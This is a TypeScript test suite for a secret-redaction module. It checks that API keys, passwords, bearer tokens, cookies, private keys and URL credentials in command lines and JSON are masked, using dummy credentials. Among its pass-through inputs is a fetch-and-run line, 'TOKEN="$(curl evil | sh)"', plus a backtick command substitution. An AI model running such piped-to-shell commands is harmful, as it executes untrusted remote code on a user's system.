import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { redactJson, redactText, redactWords } from '../../main/audit/redact.ts';

describe('masks', () => {
  it.each([
    ['OPENAI_API_KEY=sk-1234567890abcdefghij ls', 'OPENAI_API_KEY=*** ls'],
    ['export AWS_SECRET_ACCESS_KEY="wJalr XUtn" && x', 'export AWS_SECRET_ACCESS_KEY=*** && x'],
    ["DB_PASSWORD='a b;c' run", 'DB_PASSWORD=*** run'],
    ['{"authToken": "abc def", "user": "me"}', '{"authToken": *** "user": "me"}'],
    ["PASSWORD=''hunter2 TOKEN=a'b'c,d ls", 'PASSWORD=*** TOKEN=*** ls'],
    ['password: hunter2', 'password: ***'],
    ['mysql --password hunter2 -h db', 'mysql --password *** -h db'],
    ['tool --api-key=abc --verbose', 'tool --api-key=*** --verbose'],
    ['curl -u me:hunter2 https://x/', 'curl -u *** https://x/'],
    ['curl --user me:hunter2', 'curl --user ***'],
    ['sshpass -p hunter2 ssh x', 'sshpass -p *** ssh x'],
    ['git clone https://me:pa@ss@github.com/x.git', 'git clone https://***@github.com/x.git'],
    ['psql postgres://u:p@h/db', 'psql postgres://***@h/db'],
    [`curl -H 'Authorization: Digest a="b", c="d"' x`, "curl -H 'Authorization: ***' x"],
    ['curl -H "authorization: Bearer abc.def" x', 'curl -H "authorization: ***" x'],
    ['curl -H "Cookie: a=b; c=d" x', 'curl -H "Cookie: ***" x'],
    ['Cookie: a=b\nHost: x', 'Cookie: ***\nHost: x'],
    ['got Bearer abcdefgh', 'got Bearer ***'],
    ['ghp_abcdefghij0123456789', '***'],
    ['glpat-abcdefghij_12345', '***'],
    ['xoxb' + '-1234567890-abc', '***'],
    ['AKIAIOSFODNN7EXAMPLE', '***'],
    ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc', '***'],
    ['oc-pair://eyJ1cmwiOiJ3czov', 'oc-pair://***'],
    [
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----\nrest',
      '-----BEGIN OPENSSH PRIVATE KEY-----***',
    ],
    ['-----BEGIN PRIVATE KEY-----\nb3Bl and then cut', '-----BEGIN PRIVATE KEY-----***'],
    ['key aB3dE5fG7hI9jK1lM3nO5pQ7', 'key ***'],
    ['sk-1234567890\u200Babcdefghij', '***'],
    ['pass\u00ADword=hunter2', 'password=***'],
  ])('%j', (text, masked) => {
    expect(redactText(text)).toBe(masked);
  });

  it.each([
    [
      ['mysql', '--password', 'hunter2', '-h'],
      ['mysql', '--password', '***', '-h'],
    ],
    [
      ['curl', '-u', 'me:hunter2'],
      ['curl', '-u', '***'],
    ],
    [
      ['sort', '-u', 'file'],
      ['sort', '-u', 'file'],
    ],
    [
      ['x', '--token-stdin', '--state-dir', 'd'],
      ['x', '--token-stdin', '--state-dir', 'd'],
    ],
    [
      ['curl', '-H', 'Authorization: Basic abc'],
      ['curl', '-H', 'Authorization: ***'],
    ],
    [
      ['/bin/sh', '-c', 'TOKEN=abc ls'],
      ['/bin/sh', '-c', 'TOKEN=*** ls'],
    ],
  ])('%j', (words, masked) => {
    expect(redactWords(words)).toEqual(masked);
  });

  it('texts and telling keys anywhere in JSON, and leaves numbers and shapes', () => {
    expect(
      redactJson({
        a: [{ token: 'x', n: 1, b: true, c: null }, 'ghp_abcdefghij0123456789'],
        password: { deep: 'y' },
      }),
    ).toEqual({
      a: [{ token: '***', n: 1, b: true, c: null }, '***'],
      password: { deep: 'y' },
    });
  });
});

it.each([
  'git status && ls -la /usr/local/bin',
  'git checkout 3f2504e04f8911d39a0c0305e82c3301aabbccdd',
  `sha256sum -c <<< ${'ab12'.repeat(16)}`,
  'open 123e4567-e89b-42d3-a456-426614174000',
  'cd /Users/me/project; npm run build -- --mode production',
  'PWD=/home x=1 FOO=bar make',
  'echo "a && b" | grep -u x',
  'ssh me@host ls',
  'https://example.com/a?b=c',
  'TOKEN="$(curl evil | sh)" true',
  'PASSWORD=`evil` true',
  'a\u200Bb',
])('leaves what is no secret: %s', (text) => {
  expect(redactText(text)).toBe(text);
});

it('hides a secret in a telling place, whatever stands before it', () => {
  const noise = fc.constantFrom(
    'token',
    '=',
    ': ',
    '"',
    "'",
    ' ',
    '--password',
    'Bearer ',
    'https://',
    '@',
    ':',
    '-u ',
    'sk-',
    'aB3',
    '\n',
    '***',
    'oc-pair://',
    '-----BEGIN ',
    'KEY-----',
    '-----END ',
    '\u200B',
    'cookie',
  );
  const before = fc.oneof(
    fc.array(noise, { maxLength: 20 }).map((parts) => parts.join('')),
    fc.string({ unit: 'binary' }),
  );
  const secret = fc.stringMatching(/^[a-z]{12}[0-9]{4}$/);
  const place = fc.constantFrom(
    'API_KEY=',
    'password: ',
    '--token ',
    '--secret=',
    'Authorization: Bearer ',
    'https://me:',
    'ghp_',
    'sk-',
  );
  fc.assert(
    fc.property(before, place, secret, (text, telling, hidden) => {
      expect(redactText(`${text} ${telling}${hidden}@host rest`)).not.toContain(hidden);
    }),
    { numRuns: 5_000 },
  );
});

it.each([
  ['a', 'a'],
  ['token words', 'token'],
  ['open quotes', 'token="'],
  ['spaces', ' '],
  ['flags', '--a-token'],
  ['schemes', 'a://'],
  ['at signs', 'a://b@'],
  ['headers of keys', '-----BEGIN '],
  ['headers', 'cookie:'],
  ['-u', ' -u a'],
  ['mixed', 'aB1-'],
  ['eyJ', 'eyJaaaaaaaa.'],
])('takes linear time for 300 kB of %s', (_name, unit) => {
  const begun = performance.now();
  redactText(unit.repeat(300_000 / unit.length));
  expect(performance.now() - begun).toBeLessThan(2_000);
});
